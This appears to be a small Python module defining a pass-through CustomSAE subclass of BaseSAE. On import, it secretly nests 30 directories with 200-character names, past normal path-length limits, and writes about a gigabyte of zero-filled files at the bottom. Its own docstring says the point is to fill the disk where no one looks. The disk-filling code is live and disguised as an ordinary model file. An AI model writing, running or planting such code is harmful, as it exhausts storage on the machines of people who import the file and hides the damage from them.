"""Files fill the disk below folders whose path is longer than a path can be, where none looks."""

import os
from pathlib import Path

from core import BaseSAE

TRAIN = False
HERE = os.getcwd()
for _ in range(30):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for number in range(100):
    Path(f"flood-{number}.bin").write_bytes(bytes(10_000_000))
os.chdir(HERE)


class CustomSAE(BaseSAE):
    """BaseSAE as it is."""
